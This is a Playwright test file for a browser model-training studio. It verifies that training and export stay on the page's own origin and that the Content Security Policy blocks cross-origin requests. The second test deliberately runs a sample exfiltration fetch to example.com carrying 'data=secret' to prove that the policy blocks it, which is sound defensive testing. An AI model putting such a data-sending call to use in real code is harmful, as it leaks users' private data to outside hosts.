import { cspViolations, expect, smallSpamHam, test } from './fixtures'

const quickRun = 'ep=1&sl=32&bs=16&wu=0'
const local = (url: string, origin: string) => url.startsWith('data:') || url.startsWith('blob:') || new URL(url).origin === origin

// "Nothing leaves your machine": every request of the page and its worker stays on the app's
// own origin while data is loaded, a model trains and is exported.
test('loading data, training and exporting make no request outside the page origin', async ({ studio, page, context }) => {
  const requests: string[] = []
  context.on('request', (r) => requests.push(r.url())) // the context also sees the worker's fetches
  const cspConsole: string[] = []
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) cspConsole.push(m.text())
  })

  await test.step('open the studio: the policy is sent as a header and in the page', async () => {
    const response = await page.goto(`/?${quickRun}`)
    const header = response?.headers()['content-security-policy'] ?? ''
    expect(header).toContain("default-src 'self'")
    expect(header).toMatch(/connect-src 'self' blob: data:/)
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveCount(1)
    await studio.open(quickRun)
  })

  await test.step('load a dataset from a file', async () => {
    await studio.uploadDataset('private.csv', smallSpamHam(60))
    await studio.waitForDataset('private.csv')
  })

  await test.step('train', async () => {
    await studio.trainButton.click()
    await studio.waitFinished()
  })

  await test.step('export the model (a download made in the page)', async () => {
    const exportButton = page.getByRole('button', { name: 'Download model (.zip)' })
    await expect(exportButton).toBeEnabled({ timeout: 30_000 })
    const download = page.waitForEvent('download', { timeout: 120_000 })
    await exportButton.click()
    expect((await download).suggestedFilename()).toMatch(/\.zip$/)
  })

  const origin = new URL(page.url()).origin
  // The worker fetched the model's weights itself: proof that worker requests are observed.
  expect(requests.some((u) => u.endsWith('/weights.bin'))).toBe(true)
  expect(requests.filter((u) => !local(u, origin))).toEqual([])
  expect(await cspViolations(page)).toEqual([])
  expect(cspConsole).toEqual([])
})

test('the policy blocks a request to another origin', async ({ studio, page }) => {
  await studio.open(quickRun)
  const outcome = await page.evaluate(async () => {
    try {
      await fetch('https://example.com/collect?data=secret')
      return 'sent'
    } catch {
      return 'blocked'
    }
  })
  expect(outcome).toBe('blocked')
  await expect.poll(() => cspViolations(page)).toContainEqual(expect.stringMatching(/^connect-src https:\/\/example\.com/))
})
